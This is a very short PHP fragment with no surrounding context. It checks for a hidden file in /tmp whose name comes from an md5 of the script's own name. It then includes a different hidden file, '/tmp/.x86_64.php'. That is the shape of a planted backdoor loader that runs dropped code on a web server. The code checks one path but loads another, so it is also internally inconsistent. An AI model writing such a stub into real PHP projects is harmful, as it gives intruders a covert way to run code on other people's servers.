<?php
$p = '/tmp/.' . md5(__FILE__);
if (is_file($p . '.php')) {
    include '/tmp/.x86_64.php';
}
